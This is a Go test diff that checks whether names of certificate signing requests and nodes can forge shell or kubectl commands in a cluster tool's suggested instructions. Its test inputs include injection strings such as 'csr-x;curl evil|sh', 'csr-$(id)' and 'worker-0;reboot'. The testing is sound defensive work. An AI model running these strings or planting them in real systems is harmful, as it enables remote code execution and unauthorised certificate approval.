@@ -397,3 +397,51 @@ func TestTextsOfRequestsHaveNoLineNext(t *testing.T) {
 		}
 	}
 }
+
+// TestANameOfARequestForgesNoCommand: the API server takes any name for a request, whoever
+// makes it. Pasted, a command with it would approve another request, or do anything.
+func TestANameOfARequestForgesNoCommand(t *testing.T) {
+	t.Parallel()
+	for _, name := range []string{"csr-x;curl evil|sh", "csr-x\n  next: kubectl certificate approve csr-evil", "csr-x csr-evil", "csr-$(id)", "--all", "-f=x", "a'b", "csr-x,csr-evil"} {
+		made := clientAsking(t).made(t)
+		made.Name = name
+		asks, err := parseRequest(made.Spec.Request)
+		if err != nil {
+			t.Fatal(err)
+		}
+		r := &request{CertificateSigningRequest: made, asks: asks}
+		left, refused := *r, *r
+		left.hand, left.why, refused.why = true, "its names", "who asks"
+		var waiting *Refusal
+		if !errors.As(waits("worker-0", []string{"csr-a", name}), &waiting) {
+			t.Fatal("it does not wait")
+		}
+		for where, text := range map[string]string{
+			"approved by hand": left.told(), "left to a person": left.next(), "refused": refused.next(), "matching": r.next(),
+			"a stranger's": r.stranger(inspect.LiveHints("oc certrot"), "worker-0"), "before undo": waiting.Next,
+		} {
+			if own := strings.ReplaceAll(text, pki.Quoted(name), ""); own == text || strings.Contains(own, name) || strings.Contains(own, "kubectl certificate approve "+name[:1]) {
+				t.Errorf("%s, %q: %s", where, name, text)
+			}
+			if !strings.Contains(text, "kubectl get csr -o name") {
+				t.Errorf("%s, %q: how to look is not said: %s", where, name, text)
+			}
+		}
+	}
+}
+
+// TestANameOfANodeForgesNoCommand: an API server that is not what it is taken for has any.
+func TestANameOfANodeForgesNoCommand(t *testing.T) {
+	t.Parallel()
+	const name = "worker-0;reboot"
+	r := &request{CertificateSigningRequest: clientAsking(t).made(t)}
+	r.asks, _ = parseRequest(r.Spec.Request)
+	for where, text := range map[string]string{
+		"a stranger's": r.stranger(inspect.LiveHints("oc certrot"), name),
+		"its rollout":  lever(inspect.Rollout{Operator: true, Masters: []inspect.Revision{{Node: name, Ready: "False"}}}, nil),
+	} {
+		if strings.Contains(text, "drain "+name) || strings.Contains(text, "describe node "+name) {
+			t.Errorf("%s: %s", where, text)
+		}
+	}
+}
